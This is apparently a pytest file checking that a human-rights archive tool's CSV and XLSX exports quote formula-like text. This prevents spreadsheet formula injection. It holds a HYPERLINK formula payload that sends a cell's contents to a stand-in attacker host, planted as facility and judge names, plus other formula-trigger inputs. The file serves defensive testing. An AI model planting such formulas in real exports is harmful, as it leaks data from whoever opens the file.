"""No export runs as a formula: every CSV (``stats … --format csv``, ``sanctions screen --csv``)
and XLSX cell of text that a spreadsheet would run as a formula is written after a single quote,
while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook  # type: ignore[import-untyped]
from typer.testing import CliRunner, Result

from sviedka.cli import app
from sviedka.spreadsheet import csv_text, safe_cell

ENV = {"SVIEDKA_PASSPHRASE": "", "SVIEDKA_CUSTODIAN": "alice", "SVIEDKA_DATABASE_URL": ""}
LINK = '=HYPERLINK("https://evil.invalid/?"&A2,"details")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+375 29 000", "'+375 29 000"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("Алесь Бяляцкі", "Алесь Бяляцкі"),
        ("1-77/2021", "1-77/2021"),
        ("", ""),
        ("   ", "   "),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_a_text_cell_that_would_run_as_a_formula_is_quoted(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_csv_quotes_formula_text_and_keeps_numbers_readable() -> None:
    rows = [{"label": LINK, "change": -3}, {"label": "-", "change": 4}]
    text = csv_text(["label", "change"], rows, comments=["method line"])
    assert text.splitlines()[0] == "# method line"
    read = list(csv.DictReader(io.StringIO("\n".join(text.splitlines()[1:]))))
    assert read == [{"label": "'" + LINK, "change": "-3"}, {"label": "'-", "change": "4"}]


def test_an_xlsx_cell_written_through_safe_cell_is_text_not_a_formula() -> None:
    sheet = Workbook().active
    sheet["A1"], sheet["A2"] = LINK, safe_cell(LINK)
    assert (sheet["A1"].data_type, sheet["A2"].data_type) == ("f", "s")


# -- every export, end to end -------------------------------------------------------------------


def run(archive: Path, *args: str, input: str | None = None) -> Result:
    return CliRunner().invoke(
        app, ["--archive", str(archive), *args], input=input, env=ENV, catch_exceptions=False
    )


def add(archive: Path, kind: str, body: dict[str, Any]) -> str:
    result = run(archive, "record", "add", kind, "--json", "-", input=json.dumps(body))
    assert result.exit_code == 0, result.output
    return result.output.strip()


@pytest.fixture
def planted(cli_template: Path, tmp_path: Path) -> Path:
    """A prisoner held in a facility, and sentenced by a judge, whose names a documenter
    entered as formulas."""
    path = tmp_path / "archive"
    shutil.copytree(cli_template, path)
    names = lambda full: [{"full": full}]  # noqa: E731
    facility = add(path, "organisation", {"names": names(LINK), "kind": "penal_facility"})
    judge = add(path, "person", {"names": names("@" + LINK[1:])})
    prisoner = add(path, "person", {"names": names("Асоба")})
    detention = {
        "person": prisoner,
        "arrest": {"date": "2021-01-10"},
        "recognition": {"date": "2021-02"},
        "placements": [{"facility": facility}],
        "court_cases": [{"number": "1-77/2021", "judge": judge}],
    }
    add(path, "detention", detention)
    return path


def csv_rows(output: str) -> list[dict[str, str]]:
    body = [line for line in output.splitlines() if not line.startswith("#")]
    return list(csv.DictReader(io.StringIO("\n".join(body))))


def test_stats_csv_quotes_a_facility_named_as_a_formula(planted: Path) -> None:
    asked = ["--on", "2021-06-01", "--by", "facility", "--format", "csv"]
    result = run(planted, "stats", "held", *asked)
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(result.output)
    assert (row["label"], row["certain"]) == ("'" + LINK, "1")
    assert all(not line.startswith("=") for line in result.output.splitlines())


def test_sanctions_screening_csv_quotes_a_judge_named_as_a_formula(planted: Path) -> None:
    result = run(planted, "sanctions", "screen", "--csv")
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(result.output)
    assert (row["name"], row["roles"], row["cases"]) == ("'@" + LINK[1:], "judge", "1-77/2021")


def test_every_csv_and_xlsx_writer_goes_through_the_one_safe_function() -> None:
    src = Path(__file__).resolve().parents[1] / "src" / "sviedka"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|write_only=True")
    found = sorted(
        path.relative_to(src).as_posix()
        for path in src.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    )
    assert found == ["spreadsheet.py"]
